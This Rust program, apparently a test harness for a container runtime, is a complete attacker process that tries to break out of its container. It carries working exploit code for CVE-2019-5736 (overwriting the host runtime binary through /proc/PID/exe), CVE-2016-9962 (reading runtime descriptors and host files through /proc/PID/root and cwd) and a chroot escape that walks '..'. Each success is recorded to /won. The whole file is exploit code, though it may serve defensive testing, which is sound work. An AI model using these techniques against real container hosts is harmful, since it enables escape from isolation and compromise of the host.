//! The first process of a container that wants out: it does what an attacker would put into an image, faster than a
//! shell could, until it is killed. Uses nothing but the standard library, and touches nothing but what the container
//! can reach.
#![expect(clippy::print_stdout, clippy::print_stderr, reason = "a program: whoever starts it reads its words")]

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

/// Where the attacks that go on for ever write what they have won.
const WON: &str = "/won";

const USAGE: &str = "\
usage: breakout_attacker fds | overwrite | peek SECRET | escape SECRET

  fds          prints the descriptors above 2 that it was started with, and what they stand for
  overwrite    writes into the program of every process that comes into its sight (CVE-2019-5736)
  peek SECRET  looks for descriptors and for the file SECRET of the host in every such process (CVE-2016-9962)
  escape SECRET  leaves the root by a directory that lies outside of a second one, and looks for SECRET there
";

fn main() -> ExitCode {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["fds"] => print!("{}", descriptors("self")),
        ["overwrite"] => overwrite(),
        ["peek", secret] => peek(secret.trim_start_matches('/')),
        ["escape", secret] => escape(secret.trim_start_matches('/')),
        _ => {
            eprint!("{USAGE}");
            return ExitCode::from(2);
        }
    }
    ExitCode::SUCCESS
}

/// Descriptors above 2, one a line; not those by which the list itself is read.
fn descriptors(process: &str) -> String {
    let directory = PathBuf::from(format!("/proc/{process}/fd"));
    let mut lines = Vec::new();
    for entry in fs::read_dir(&directory).into_iter().flatten().flatten() {
        let number = entry.file_name().to_string_lossy().parse::<i32>().unwrap_or_default();
        let Ok(target) = fs::read_link(entry.path()) else { continue };
        if number > 2 && !target.starts_with("/proc") {
            lines.push(format!("{number} {}\n", target.display()));
        }
    }
    lines.concat()
}

/// Every process but this one.
fn others() -> impl Iterator<Item = String> {
    let own = std::process::id().to_string();
    let names = fs::read_dir("/proc").into_iter().flatten().flatten();
    let names = names.filter_map(|entry| entry.file_name().into_string().ok());
    names.filter(move |name| *name != own && name.bytes().all(|byte| byte.is_ascii_digit()))
}

/// Device and inode of what a process runs.
fn identity(path: &Path) -> Option<(u64, u64)> {
    fs::metadata(path).ok().map(|found| (found.dev(), found.ino()))
}

/// Holds the program of the runtime from the moment at which it is seen, and writes to it as soon as nobody runs it.
fn overwrite() -> ! {
    const PATH_ONLY: i32 = 0o10_000_000;
    const MOST: usize = 64;
    let own: Vec<_> = ["/bin/busybox", "/bin/attacker"].iter().filter_map(|file| identity(Path::new(file))).collect();
    let mut held: Vec<File> = Vec::new();
    loop {
        for process in others() {
            let Ok(exe) = OpenOptions::new().read(true).custom_flags(PATH_ONLY).open(format!("/proc/{process}/exe"))
            else {
                continue;
            };
            if exe.metadata().is_ok_and(|found| !own.contains(&(found.dev(), found.ino()))) {
                held.push(exe);
            }
        }
        for exe in &held {
            if let Ok(mut file) = OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", exe.as_raw_fd()))
                && file.write_all(b"#!/bin/false\n").is_ok()
            {
                win("a program that this container was started with was written to");
            }
        }
        held.drain(..held.len().saturating_sub(MOST));
    }
}

/// Looks into every process while it is still the runtime's.
fn peek(secret: &str) -> ! {
    loop {
        for process in others() {
            let seen = descriptors(&process);
            if !seen.is_empty() {
                win(&format!("descriptors of the runtime can be seen: {}", seen.trim_end()));
            }
            for way in ["root", "cwd"] {
                if fs::read(format!("/proc/{process}/{way}/{secret}")).is_ok() {
                    win(&format!("/proc/{process}/{way} leads to the host"));
                }
            }
        }
    }
}

/// `chroot(2)`: "this call does not change the current working directory", so that after it `.` can be outside of the
/// tree rooted at `/`, and `..` goes on from there.
fn escape(secret: &str) {
    const DEEP: usize = 64;
    let tried = fs::create_dir_all("/jail").and_then(|()| std::os::unix::fs::chroot("/jail"));
    for _ in 0..DEEP {
        // At the top, it stays there.
        let _ = std::env::set_current_dir("..");
    }
    let out = tried.is_ok() && std::os::unix::fs::chroot(".").is_ok() && fs::read(format!("/{secret}")).is_ok();
    println!("{}", if out { "open: the host's root" } else { "inside" });
}

fn win(what: &str) {
    // A later attempt tells again.
    let _ = fs::write(WON, what);
}
